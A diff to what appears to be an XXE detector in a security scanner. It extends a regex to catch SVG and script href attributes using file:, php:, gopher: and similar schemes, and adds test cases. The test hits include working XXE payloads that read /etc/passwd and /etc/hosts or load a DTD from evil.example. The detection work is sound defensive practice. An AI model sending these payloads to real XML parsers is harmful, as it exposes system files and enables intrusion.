@@ -32,7 +32,10 @@ export const xmlExternalEntity = defineAttack({
       note('external', entity.index, text.length);
     const coded = /\+ADw(?:-?!|AIQ-?)(?:DOCTYPE|ENTITY)/i.exec(text);
     if (coded) note('doctype', coded.index, coded.index + coded[0].length);
-    const inclusion = /<(?:\w+:)?include\s[^>]{0,200}href|http:\/\/www\.w3\.org\/2001\/XInclude/i.exec(text);
+    const inclusion =
+      /<(?:\w+:)?include\s[^>]{0,200}href|http:\/\/www\.w3\.org\/2001\/XInclude|<(?:\w{1,16}:)?(?:image|feimage|use|script)\s[^<>]{0,200}href\s{0,4}=\s{0,4}["']\s{0,4}(?:file|expect|php|jar|netdoc|gopher):/i.exec(
+        text,
+      );
     if (inclusion) note('inclusion', inclusion.index, inclusion.index + inclusion[0].length);
     const stylesheet = /<\?xml-stylesheet\s|<xsl:(?:stylesheet|template|value-of|copy-of|include|import)\b|<\?import\s|xmlns:php=/i.exec(
       text,
@@ -46,12 +49,14 @@ export const xmlExternalEntity = defineAttack({
       '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
       '<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>',
       '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></x>',
+      '<svg><image xlink:href="file:///etc/hosts"/></svg>',
       '<!DOCTYPE lol [<!ENTITY a "b"><!ENTITY c "&a;&a;">]><r>&c;</r>',
     ],
     misses: [
       '<?xml version="1.0"?><a>b</a>',
       '<!DOCTYPE html><html></html>',
       'a <entity> b',
+      '<a href="file:/dev/mouse">mouse</a>',
       '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist/>',
       '<!-- comment -->',
       '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
